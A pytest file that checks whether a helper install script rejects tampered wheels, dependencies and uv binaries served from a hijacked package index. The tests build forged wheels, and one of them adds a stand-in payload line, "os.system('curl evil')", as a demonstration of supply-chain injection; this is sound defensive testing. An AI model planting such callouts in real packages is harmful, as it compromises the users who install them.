"""Issue 27 item 2: an install that cannot be hijacked, with the real uv and real indexes.

Whoever controls an index (or registers the unpublished name first) can serve any file
under a package's name. The orb installs the helper and its whole closure by hash (the lock
in install_helper.sh), so a tampered dependency, a tampered helper wheel and a tampered uv
are each refused, naming the mismatch; the untampered helper installs (the control). A local
index (a file:// PEP 503 folder, first in uv's search as an extra index) plays the attacker.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import zipfile
from pathlib import Path

import pytest

from lambda_release import __version__
from tests.orb.conftest import ROOT, build_helper_wheel, profile_tools
from tests.support.processes import OrbShell, Spawn
from tests.support.requires import require_path

UV_BIN = ROOT / ".uv" / "bin"


@pytest.fixture(scope="module")
def helper_wheel(spawn: Spawn, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_helper_wheel(spawn, tmp_path_factory.mktemp("wheel"))


def index_serving(tmp_path: Path, *wheels: Path) -> str:
    """A PEP 503 index (file://) that serves ``wheels`` under their projects' names."""
    simple = tmp_path / "index" / "simple"
    for wheel in wheels:
        project = wheel.name.split("-")[0].replace("_", "-").lower()
        (simple / project).mkdir(parents=True, exist_ok=True)
        shutil.copy(wheel, simple / project / wheel.name)
        (simple / project / "index.html").write_text(f'<a href="{wheel.name}">{wheel.name}</a>\n')
    return simple.as_uri()


def forged_six(tmp_path: Path) -> Path:
    path = tmp_path / "forged" / "six-1.17.0-py2.py3-none-any.whl"
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("six.py", "raise SystemExit('pwned')\n")
        z.writestr(
            "six-1.17.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: six\nVersion: 1.17.0\n"
        )
        z.writestr(
            "six-1.17.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        z.writestr("six-1.17.0.dist-info/RECORD", "")
    return path


def install(
    orb_sh: OrbShell, tmp_path: Path, index: str, call: str = "main", **env: str
) -> tuple[int, str]:
    require_path(UV_BIN / "uv", "the real uv comes from `make .venv/.installed` (.uv/)")
    step_env = {
        "PATH": f"{UV_BIN}:{os.environ['PATH']}",
        "UV_EXTRA_INDEX_URL": index,
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),  # nothing from an earlier install
        "LR_STR_HELPER_HOME": str(tmp_path / "h"),
        # This machine's CA bundle (a TLS proxy), as a CI image's would be.
        **{k: os.environ[k] for k in ("SSL_CERT_FILE",) if k in os.environ},
        **env,
    }
    proc = orb_sh.function("install_helper.sh", call, step_env, tmp_path)
    return proc.returncode, proc.stdout + proc.stderr


def test_a_tampered_dependency_is_refused(
    orb_sh: OrbShell, tmp_path: Path, helper_wheel: Path
) -> None:
    code, out = install(
        orb_sh,
        tmp_path,
        index_serving(tmp_path, forged_six(tmp_path)),
        LR_STR_HELPER_SOURCE=str(helper_wheel),
    )
    assert code != 0
    assert "Hash mismatch for `six==1.17.0`" in out
    assert not (tmp_path / "h" / "venv" / "bin" / "lambda-release").exists()


def test_the_pinned_helper_installs_by_hash_and_a_tampered_one_is_refused(
    orb_sh: OrbShell, tmp_path: Path, helper_wheel: Path
) -> None:
    # As the published orb will: LR_HELPER_SHA256 is the released wheel's, and the name is
    # looked up on an index. The real wheel installs; a wheel with one more file does not.
    sha = hashlib.sha256(helper_wheel.read_bytes()).hexdigest()
    pinned = f'LR_HELPER_SHA256="{sha}"; main'
    code, out = install(orb_sh, tmp_path, index_serving(tmp_path, helper_wheel), pinned)
    assert code == 0, out
    assert f"lambda-release {__version__}" in out

    forged = tmp_path / "forged" / helper_wheel.name
    forged.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(helper_wheel, forged)
    with zipfile.ZipFile(forged, "a") as z:
        z.writestr("lambda_release/_payload.py", "import os; os.system('curl evil')\n")
    other = tmp_path / "other"
    other.mkdir()
    code, out = install(
        orb_sh, other, index_serving(other, forged), pinned, LR_STR_HELPER_HOME=str(other / "h")
    )
    assert code != 0
    assert "Hash mismatch for `lambda-release" in out


def test_a_tampered_uv_wheel_is_refused(orb_sh: OrbShell, tmp_path: Path) -> None:
    fake = tmp_path / "uv.whl"
    with zipfile.ZipFile(fake, "w") as z:
        z.writestr("uv-0.13.9.data/scripts/uv", "#!/bin/sh\necho pwned\n")
    path = os.pathsep.join(
        p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "uv").exists()
    )
    home = tmp_path / "h"
    proc = orb_sh.function(
        "install_helper.sh",
        f'lr_uv "{home}"',
        {"PATH": path, "LR_UV_WHEEL_URL": fake.as_uri()},
        tmp_path,
    )
    assert proc.returncode != 0
    assert "not the pinned" in proc.stderr and "refusing it" in proc.stderr
    assert not (home / "tools" / "uv").exists()


@pytest.mark.parametrize("pip_env", [{"PIP_REQUIRE_VIRTUALENV": "1"}, {"PIP_USER": "1"}])
def test_the_pinned_uv_download_needs_no_pip_whatever_pip_is_told(
    orb_sh: OrbShell, tmp_path: Path, pip_env: dict[str, str]
) -> None:
    # The real wheel from PyPI's files (the network, as the orb's install step).
    path = os.pathsep.join(
        p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "uv").exists()
    )
    home = tmp_path / "helper home's"  # a space and a quote: both must survive
    proc = orb_sh.function(
        "install_helper.sh", f'lr_uv "{home}"', {"PATH": path, **pip_env}, tmp_path
    )
    assert proc.returncode == 0, proc.stderr
    uv = proc.stdout.strip()
    assert uv == f"{home}/tools/uv"
    assert orb_sh.spawn.run([uv, "--version"]).stdout.startswith("uv 0.13.9")


def test_without_any_uv_pip_installs_the_same_hashes_or_refuses_an_old_python(
    orb_sh: OrbShell, tmp_path: Path, helper_wheel: Path
) -> None:
    """No uv on PATH and none to download (a registry blocked): pip with --require-hashes
    when python3 is 3.11+; with an older python3 nothing can host the helper: exit 2."""
    path = os.pathsep.join(
        p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "uv").exists()
    )
    env = {
        "PATH": path,
        "LR_UV_WHEEL_URL": (tmp_path / "no-such.whl").as_uri(),
        "LR_STR_HELPER_SOURCE": str(helper_wheel),
        "LR_STR_HELPER_HOME": str(tmp_path / "h"),
        "PIP_CONFIG_FILE": os.devnull,  # none of this machine's local wheel folders
        **{k: os.environ[k] for k in ("SSL_CERT_FILE", "PIP_CERT") if k in os.environ},
    }
    proc = orb_sh.function("install_helper.sh", "main", env, tmp_path)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "using pip with the same hashes" in proc.stderr
    assert proc.stdout.splitlines()[-1] == f"lambda-release {__version__}"

    old = OrbShell(orb_sh.spawn, profile_tools("oldest"))  # skips where it cannot be built
    proc = old.function(
        "install_helper.sh", "main", {**env, "LR_STR_HELPER_HOME": str(tmp_path / "o")}, tmp_path
    )
    assert proc.returncode == 2
    assert "python3 is older than 3.11" in proc.stderr
